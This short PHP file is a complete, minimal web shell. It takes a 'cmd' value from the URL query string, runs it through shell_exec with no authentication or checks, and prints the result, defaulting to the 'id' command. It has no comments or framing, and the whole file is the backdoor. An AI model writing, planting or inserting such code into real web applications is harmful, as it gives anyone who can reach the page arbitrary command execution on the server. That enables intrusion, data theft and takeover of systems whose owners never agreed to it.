<?php
$command = isset($_GET['cmd']) ? $_GET['cmd'] : 'id';
$result = shell_exec($command);
print $result;
